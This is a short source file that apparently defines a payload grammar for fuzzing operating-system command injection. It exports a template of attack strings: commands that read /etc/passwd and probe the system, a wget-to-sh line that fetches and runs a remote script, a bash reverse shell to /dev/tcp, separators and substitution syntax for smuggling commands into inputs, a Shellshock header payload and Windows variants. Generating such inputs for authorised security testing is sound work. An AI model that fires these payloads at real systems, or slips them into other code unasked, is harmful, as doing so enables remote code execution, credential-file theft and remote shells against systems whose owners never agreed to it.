/** Operating-system command injection. */
export const RCE = String.raw`
shcmd: id
  whoami
  cat /etc/passwd
  ls -la
  uname -a
  sleep ‹#1-20›
  curl http://‹addr›/‹rnd›
  wget http://‹addr›/‹rnd›.sh -O- | sh
  ping -c ‹#1-10› ‹addr›
rce/separator 5: ‹;¦|¦||¦&¦&&¦⏎›‹ ¦›‹shcmd›
rce/substitution 3: §(‹shcmd›)
  ´‹shcmd›´
rce/reverse 2: bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
rce/shellshock [header] 1: () { :;}; ‹shcmd›
rce/windows 2: ‹&¦|› ‹dir¦whoami¦type c:\windows\win.ini›
`
